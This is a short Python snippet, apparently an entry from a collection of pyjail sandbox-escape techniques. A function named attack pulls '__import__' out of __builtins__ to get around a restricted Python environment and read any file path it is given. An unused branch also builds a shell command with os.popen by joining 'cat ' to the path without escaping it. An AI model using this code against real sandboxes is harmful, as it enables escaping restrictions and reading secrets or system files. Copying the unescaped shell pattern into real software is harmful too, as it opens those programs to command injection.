# The built-in functions by their special name.
# after: read
# source: pyjail: the built-in functions
def attack(path, **_):
    found = __builtins__ if type(__builtins__) is dict else vars(__builtins__)
    return {"text": found["__import__"]("os").popen("cat " + path).read() if False else found["__import__"]("io").open(path).read()}
